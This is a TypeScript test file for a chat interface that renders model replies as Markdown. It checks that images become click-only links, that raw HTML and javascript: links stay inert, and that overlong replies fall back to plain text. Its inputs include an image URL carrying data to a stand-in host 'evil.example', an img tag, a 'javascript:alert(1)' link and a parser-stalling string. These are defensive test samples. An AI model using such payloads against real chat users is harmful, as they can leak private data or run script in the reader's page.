import { describe, expect, it } from 'vitest'
import { parseMarkdown, type Block, type Inline } from '../../components/markdown/markdown.js'
import { MAX_MARKDOWN_CHARS, imagesAsLinks, replyView } from './reply-markdown.js'

function inlines(blocks: Block[]): Inline[] {
  const out: Inline[] = []
  const walk = (nodes: Inline[]) => {
    for (const node of nodes) {
      out.push(node)
      if (node.kind === 'strong' || node.kind === 'em' || node.kind === 'link') walk(node.children)
    }
  }
  for (const block of blocks) {
    if (block.kind === 'paragraph' || block.kind === 'heading') walk(block.children)
    if (block.kind === 'list') block.items.forEach(walk)
  }
  return out
}

describe('a model reply as Markdown', () => {
  it('turns an image into a link labelled as an image, which fetches nothing until clicked', () => {
    const reply = 'Here: ![secret chart](https://evil.example/?q=canary) and more'
    const prepared = imagesAsLinks(reply)
    expect(prepared).toBe('Here: [image: secret chart](https://evil.example/?q=canary) and more')
    const links = inlines(parseMarkdown(prepared)).filter((node) => node.kind === 'link')
    expect(links).toEqual([
      {
        kind: 'link',
        href: 'https://evil.example/?q=canary',
        children: [{ kind: 'text', text: 'image: secret chart' }],
      },
    ])
  })

  it('keeps an image with an empty alt or a title recognisable, and drops one without a URL to text', () => {
    expect(imagesAsLinks('![](http://a.test/x.png "t")')).toBe('[image: untitled](http://a.test/x.png)')
    expect(imagesAsLinks('![logo]()')).toBe('image: logo')
  })

  it('leaves raw HTML as text and links only http(s) and mailto targets', () => {
    const blocks = parseMarkdown(imagesAsLinks('<img src="http://evil.test/a"> [run](javascript:alert(1)) **ok**'))
    const nodes = inlines(blocks)
    expect(nodes.some((node) => node.kind === 'link')).toBe(false)
    expect(nodes[0]).toEqual({ kind: 'text', text: '<img src="http://evil.test/a"> ' })
    expect(nodes.some((node) => node.kind === 'strong')).toBe(true)
  })
})

describe('a long model reply', () => {
  it('is shown as plain text past the limit, so a reply built to stall the parser cannot freeze the page', () => {
    const hostile = '[a'.repeat(MAX_MARKDOWN_CHARS)
    expect(replyView(hostile)).toEqual({ kind: 'plain', text: hostile })
    // The stall comes from parsing again on every streamed piece; one parse of this text takes a few milliseconds, so a
    // time bound here could not tell parsing from not parsing (only a busy machine could fail it): the limit is checked at
    // its edge instead.
    expect(replyView('a'.repeat(MAX_MARKDOWN_CHARS + 1)).kind).toBe('plain')
    expect(replyView('a'.repeat(MAX_MARKDOWN_CHARS)).kind).toBe('markdown')
    expect(replyView('**short**')).toEqual({ kind: 'markdown', source: '**short**' })
    expect(replyView('![x](https://evil.example/p)')).toEqual({
      kind: 'markdown',
      source: '[image: x](https://evil.example/p)',
    })
  })
})
